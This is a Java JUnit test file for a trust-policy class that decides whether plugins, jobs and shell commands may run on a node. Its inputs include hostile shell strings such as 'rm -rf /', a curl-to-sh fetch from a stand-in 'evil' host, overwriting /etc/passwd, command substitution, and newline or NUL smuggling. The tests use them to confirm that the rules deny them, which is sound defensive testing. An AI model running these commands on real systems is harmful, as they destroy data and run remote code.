package io.colony.trust.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.colony.api.trust.Decision;
import io.colony.api.trust.Request;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class TrustRulesTest {

    private static TrustRules rules(Map<String, ?> properties) {
        return new TrustRules(TrustSettings.read(properties, Path.of("etc").toAbsolutePath()));
    }

    private static Decision command(TrustRules rules, String line) {
        return rules.decide(new Request.RunCommand(line));
    }

    @Test
    void defaultPolicyAllowsOperatorInstalledPlugins() {
        Decision decision = new TrustRules(TrustSettings.DEFAULTS).decide(new Request.RunPlugin("mandelbrot", "[1.0,2.0)"));
        assertTrue(decision.allowed());
        assertEquals("plugins installed by the node's operator may always run (topology 1)", decision.reason());
    }

    @Test
    void defaultPolicyDeniesCommandsNamingTheKeyThatEnablesThem() {
        Decision decision = command(rules(Map.of()), "ls");
        assertFalse(decision.allowed());
        assertEquals("commands are disabled by the trust policy (set commands.enabled = true in etc/io.colony.trust.cfg)", decision.reason());
    }

    @Test
    void defaultPolicyDeniesManifestJobsNamingTheKeyThatEnablesThem() {
        Decision decision = rules(Map.of()).decide(new Request.InstallArtifacts(List.of("org.example:plugin:1.0"), List.of("file:/repo")));
        assertFalse(decision.allowed());
        assertEquals("manifest jobs (topology 2) are disabled by the trust policy (set manifest.enabled = true in etc/io.colony.trust.cfg)",
                decision.reason());
    }

    @Test
    void defaultPolicyDeniesSourceJobsNamingTheKeyThatEnablesThem() {
        Decision decision = rules(Map.of()).decide(new Request.RunSource("demo.Entry", "token"));
        assertFalse(decision.allowed());
        assertEquals("source jobs (topology 3) are disabled by the trust policy (set source.enabled = true in etc/io.colony.trust.cfg)",
                decision.reason());
    }

    @Test
    void enabledSourceJobsAreAllowedForAnyTokenWhenNoTokensAreListed() {
        TrustRules rules = rules(Map.of("source.enabled", true));
        Decision source = rules.decide(new Request.RunSource("demo.Entry", "any-token"));
        assertTrue(source.allowed(), source.reason());
        assertEquals("source jobs are enabled (source.enabled); the sandbox verifies, isolates (process) and limits entry class 'demo.Entry'",
                source.reason());
        assertTrue(rules.decide(new Request.RunSource("demo.Entry", "")).allowed());
    }

    @Test
    void listedSourceTokensAloneMaySubmitSourceJobs() {
        TrustRules rules = rules(Map.of("source.enabled", true, "source.tokens", "alpha-token-0123456789, beta-token-0123456789"));
        assertTrue(rules.decide(new Request.RunSource("demo.Entry", "beta-token-0123456789")).allowed());
        Decision other = rules.decide(new Request.RunSource("demo.Entry", "gamma-token-0123456789"));
        assertFalse(other.allowed());
        assertEquals("the API token of this submission is not among those allowed to submit source jobs (source.tokens)", other.reason());
        assertTrue(rules.decide(new Request.RunSource("demo.Entry", "")).allowed(), "a submission without a token: the shell, an embedding application, a worker");
    }

    @Test
    void enabledCommandsWithNoPatternsAllowAnyOneLineCommand() {
        TrustRules rules = rules(Map.of("commands.enabled", "true"));
        Decision decision = command(rules, "rm -rf /tmp/x; echo done");
        assertTrue(decision.allowed());
        assertEquals("commands are enabled and commands.allow is empty: any command may run", decision.reason());
        assertTrue(command(rules, "uname -a").allowed());
    }

    @Test
    void enabledCommandsWithNoPatternsStillRefuseMultiLineEmptyAndOverlongLines() {
        TrustRules rules = rules(Map.of("commands.enabled", "true"));
        assertFalse(command(rules, "ls\nrm -rf /").allowed());
        assertFalse(command(rules, "ls\0rm").allowed());
        assertEquals("command line is empty", command(rules, "  ").reason());
        Decision overlong = command(rules, "x".repeat(TrustRules.MAX_COMMAND_CHARS + 1));
        assertFalse(overlong.allowed());
        assertEquals("command line is 131073 characters long; at most 131072 are allowed", overlong.reason());
    }

    @Test
    void patternsAllowExactMatchesOfTheWholeLine() {
        TrustRules rules = rules(Map.of("commands.enabled", "true", "commands.allow", "uptime, ls -l [a-z/]+"));
        Decision uptime = command(rules, "uptime");
        assertTrue(uptime.allowed());
        assertEquals("command 'uptime' matches allowed pattern 'uptime' (commands.allow)", uptime.reason());
        assertTrue(command(rules, "ls -l /tmp").allowed());
    }

    @Test
    void patternsDenyEverythingElseNamingTheCommand() {
        TrustRules rules = rules(Map.of("commands.enabled", "true", "commands.allow", "uptime"));
        Decision decision = command(rules, "rm -rf /");
        assertFalse(decision.allowed());
        assertEquals("command 'rm -rf /' matches no allowed pattern (commands.allow)", decision.reason());
    }

    @Test
    void patternsCannotBeExtendedByShellTricks() {
        TrustRules rules = rules(Map.of("commands.enabled", "true", "commands.allow", "uptime, ls -l [a-z/]+"));
        for (String trick : List.of("uptime; rm -rf /", "uptime && curl http://evil | sh", "uptime || reboot", "uptime | sh",
                "uptime ", " uptime", "uptime\t", "xuptime", "uptime`id`", "uptime $(id)", "ls -l /tmp; rm -rf /",
                "ls -l /tmp&", "ls -l /tmp > /etc/passwd")) {
            assertFalse(command(rules, trick).allowed(), trick);
        }
    }

    @Test
    void lineBreaksAndNulAreRefusedBeforeAnyPatternIsTried() {
        TrustRules rules = rules(Map.of("commands.enabled", "true", "commands.allow", "(?s)uptime.*"));
        for (String trick : List.of("uptime\nrm -rf /", "uptime\r\nrm -rf /", "uptime\rrm", "uptime\0rm", "uptime\u2028rm",
                "uptime\u0085rm", "uptime\u000brm")) {
            Decision decision = command(rules, trick);
            assertFalse(decision.allowed(), trick);
            assertTrue(decision.reason().startsWith("command lines must be one line"), decision.reason());
        }
        assertTrue(command(rules, "uptime --pretty").allowed());
    }

    @Test
    void theDenialQuotesTheCommandSafely() {
        TrustRules rules = rules(Map.of("commands.enabled", "true", "commands.allow", "uptime"));
        assertEquals("command 'echo \\'hi\\' \\u202e' matches no allowed pattern (commands.allow)",
                command(rules, "echo 'hi' \u202e").reason());
        assertEquals("command lines must be one line (no line breaks or NUL characters): command 'a\\nb\\0' is denied",
                command(rules, "a\nb\0").reason());
    }

    @Test
    void aNullRequestIsDenied() {
        Decision decision = new TrustRules(TrustSettings.DEFAULTS).decide(null);
        assertFalse(decision.allowed());
        assertEquals("unknown kind of request null is denied", decision.reason());
    }
}
